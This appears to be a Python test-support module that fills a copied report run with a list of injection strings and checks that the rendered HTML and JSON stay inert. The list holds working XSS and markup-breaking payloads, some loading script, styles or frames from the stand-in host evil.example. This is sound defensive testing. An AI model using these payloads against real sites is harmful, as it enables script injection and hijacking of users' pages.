"""Hostile texts, a run poisoned with them, and what a page or document may not become by them."""

from __future__ import annotations

import json
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

#: Part of every poisoned text: a page that lacks it was not put to the test.
MARK = "zqx7"

#: Name -> text that a stranger could have put into metadata, a policy or a record.
CASES: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-closing-first": '"></title></style><script src="https://evil.example/x.js"></script>',
    "script-in-capitals": "<ScRiPt/x>alert(1)</sCrIpT >",
    "image-with-handler": "<img src=x onerror=alert(1)>",
    "handler-out-of-double-quotes": '" onmouseover="alert(1)',
    "handler-out-of-single-quotes": "' onfocus='alert(1)' autofocus='",
    "svg-with-handler": "<svg/onload=alert(1)>",
    "svg-closing-first": "</text></svg><svg><script>alert(1)</script>",
    "svg-foreign-object": "<foreignObject><iframe src='https://evil.example'></iframe>",
    "svg-title-closing": "</title><animate onbegin=alert(1) attributeName=x dur=1s>",
    "style-element": "<style>@import 'https://evil.example/x.css';</style>",
    "style-closing": "</style><link rel=stylesheet href=//evil.example/x.css>",
    "css-expression": "red;}*{background:url(https://evil.example/p)}/*",
    "javascript-link": "<a href='javascript:alert(1)'>here</a>",
    "javascript-link-split": "<a href='java\tscript:alert(1)'>here</a>",
    "data-link": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "base-element": "<base href='https://evil.example/'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "form": "<form action='https://evil.example'><input name=a><button formaction=x>",
    "comment-breaker": "--><script>alert(1)</script><!--",
    "comment-breaker-odd": "--!><img src=x onerror=alert(1)><!--",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "entities": "&lt;script&gt;&#60;script&#62;&amp;lt;&nbsp;&#x202e;",
    "template-syntax": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} @{7*7}",
    "json-breaker": '"}]}\n</script>{"format": "x", "gauges": {}}\u2028\u2029',
    "direction-override": "invoice\u202egnp.exe\u2066\u2069\u200f",
    "null-bytes": "a\x00b\x00<script\x00>",
    "terminal-escapes": "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x08\x7f",
    "lone-surrogates": "\ud800<b>\udfff",
    "huge": "<b>" + "A" * 200_000 + "</b>",
}

#: Elements that a report is made of.
_ELEMENTS = frozenset((
    "html", "head", "meta", "title", "style", "body", "header", "footer", "nav", "section", "h1",
    "h2", "h3", "p", "a", "ul", "li", "dl", "dt", "dd", "div", "span", "strong", "b", "small",
    "sup", "table", "caption", "thead", "tbody", "tr", "th", "td", "figure", "figcaption",
    "details", "summary", "wbr", "svg", "desc", "rect", "line", "circle", "text",
))  # fmt: skip
_CONTROL = 0x20
_C1 = range(0x7F, 0xA0)
_TRICKS = {*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2066, 0x206A), 0xFEFF}
_SURROGATES = range(0xD800, 0xE000)

#: Text of documents that names what something is; changing it would make another run of it.
_KEPT = frozenset((
    "format", "run_id", "created_at", "closed_at", "level", "on_imbalance", "role",
    "dtype", "capture", "digest", "final_digest",
))  # fmt: skip
#: Text columns by which rows of tables are joined or judged.
_KEPT_COLUMNS = frozenset((
    "verdict", "effect", "truth", "policy_digest", "decided_at", "example_id",
    "content", "fingerprint_before", "fingerprint_after", "rng_fingerprint",
    "line",
))  # fmt: skip


def poison(run_dir: Path, target: Path, text: str) -> Path:
    """Copy a run, put ``text`` behind every text in it, and return the copy."""
    tail = f" {MARK} {text}"
    name = "".join(char for char in text[:40] if char not in "/\0" and char.isprintable())
    copy = target / f"run {MARK} {name}"
    shutil.copytree(run_dir, copy)
    (copy / "manifest.json").unlink(missing_ok=True)
    for document in ("run.json", "end.json"):
        held = json.loads((copy / document).read_text(encoding="utf-8"))
        (copy / document).write_text(json.dumps(_spoil(held, tail)), encoding="utf-8")
    encoded = tail.encode("utf-8", "replace").decode("utf-8")
    for path in copy.rglob("*.parquet"):
        pq.write_table(_spoil_table(pq.read_table(path), encoded, path), path)
    return copy


def _spoil(value: Any, tail: str) -> Any:
    if isinstance(value, str):
        return value + tail
    if isinstance(value, list):
        return [_spoil(item, tail) for item in value]
    if isinstance(value, dict):
        is_profiles = value.keys() and all(isinstance(item, list) for item in value.values())
        return {
            key + tail if is_profiles and "devices" not in value else key: item
            if key in _KEPT
            else _spoil(item, tail)
            for key, item in value.items()
        }
    return value


def _spoil_table(table: pa.Table, tail: str, path: Path) -> pa.Table:
    for place, field in enumerate(table.schema):
        kept = field.name in _KEPT_COLUMNS and path.parent.name != "lines"
        values = table.column(place).to_pylist()
        if kept or not any(isinstance(value, str) for value in values):
            continue
        spoiled = [
            value + tail if isinstance(value, str) and value != "accrued_contributions" else value
            for value in values
        ]
        table = table.set_column(place, field.name, pa.array(spoiled, pa.string()))
    return table


class _Reader(HTMLParser):
    """Notes what a page holds."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge an element and its attributes."""
        if tag not in _ELEMENTS:
            self.problems.append(f"element {tag}")
        self.styles += tag == "style"
        for name, value in attrs:
            shown = value or ""
            if name.startswith("on") or name in {"style", "src", "srcset", "xlink:href", "action"}:
                self.problems.append(f"attribute {name} of {tag}")
            if name == "href" and not shown.startswith("#"):
                self.problems.append(f"link to {shown[:60]}")
            if tag == "meta" and name == "http-equiv" and shown != "Content-Security-Policy":
                self.problems.append(f"meta {shown[:60]}")

    def handle_comment(self, data: str) -> None:
        """No comment belongs to a report."""
        self.problems.append(f"comment {data[:60]}")

    def unknown_decl(self, data: str) -> None:
        """Nor does a section of unparsed text."""
        self.problems.append(f"declaration {data[:60]}")

    def handle_data(self, data: str) -> None:
        """Keep the text."""
        self.text.append(data)


def problems_of_page(page: str) -> list[str]:
    """Return what is wrong with a page that was made of a poisoned run; empty where it is inert."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    found = reader.problems
    if reader.styles != 1:
        found.append(f"{reader.styles} style elements")
    style = page.partition("<style>")[2].partition("</style>")[0]
    if "url(" in style or "@import" in style:
        found.append("style that loads")
    if MARK not in "".join(reader.text):
        found.append("the poisoned text is not there: nothing was tested")
    return [*found, *_odd_characters(page)]


def problems_of_json(text: str) -> list[str]:
    """Return what is wrong with a JSON document of a poisoned run; empty where it is inert."""
    found = [] if text.isascii() else ["not ASCII"]
    found += [f"character {char}" for char in "<>&" if char in text]
    held = json.loads(text)
    if held.get("format") != "gradledger.report/1":
        found.append("another format")
    strings = list(_strings(held))
    if not any(MARK in item for item in strings):
        found.append("the poisoned text is not there: nothing was tested")
    return [*found, *_odd_characters(text), *_odd_characters("\n".join(strings))]


def _odd_characters(text: str) -> list[str]:
    odd = {
        ord(char)
        for char in set(text)
        if (ord(char) < _CONTROL and char != "\n")
        or ord(char) in _C1
        or ord(char) in _TRICKS
        or ord(char) in _SURROGATES
    }
    return [f"character U+{code:04X}" for code in sorted(odd)]


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [item for pair in value.items() for part in pair for item in _strings(part)]
    if isinstance(value, list):
        return [item for part in value for item in _strings(part)]
    return []
